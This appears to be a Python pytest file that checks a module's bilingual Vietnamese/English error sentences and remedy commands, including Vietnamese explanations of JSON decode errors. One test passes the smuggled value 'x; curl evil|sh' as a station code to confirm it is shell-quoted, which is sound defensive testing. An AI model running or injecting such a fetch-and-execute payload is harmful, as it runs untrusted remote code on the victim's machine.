from __future__ import annotations

import re

import msgspec
import pytest

from haidang.engine.contracts.reasons import REASONS, remedy, sentence


def test_a_station_code_cannot_become_a_command_of_whoever_pastes_the_remedy() -> None:
    text = remedy("unknown_station", {"place": "Dòng 1", "station": "x; curl evil|sh"})
    assert "--code 'x; curl evil|sh' --name" in text


@pytest.mark.parametrize("code", sorted(REASONS))
@pytest.mark.parametrize("language", ["vi", "en"])
def test_every_reason_makes_sentences_also_of_an_old_refusal_without_arguments(
    code: str, language: str
) -> None:
    assert sentence(code, {}, language).endswith(".")
    assert remedy(code, {}, language).endswith(".")


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (b'{"value": NaN}', "NaN"),
        (b"hello", "ký tự không hợp lệ (byte 0)"),
        (b'{"value": 1', "cắt cụt"),
        (b"[" * 5000, "lồng quá sâu"),
        (b"{} x", "chữ thừa phía sau"),
        (b'{"value": 1,}', "dấu phẩy thừa"),
        (b'{"value": "\\x"}', "sai cú pháp JSON (byte"),
        (b"{1: 2}", "tên trường phải là chuỗi"),
    ],
)
def test_what_is_wrong_with_json_is_said_in_vietnamese(body: bytes, words: str) -> None:
    with pytest.raises((msgspec.DecodeError, RecursionError)) as raised:
        msgspec.json.decode(body)
    text = sentence("unreadable", {"place": "Nội dung", "detail": str(raised.value)})
    assert words in text
    assert not re.search("malformed|character|truncated|recursion|trailing", text)
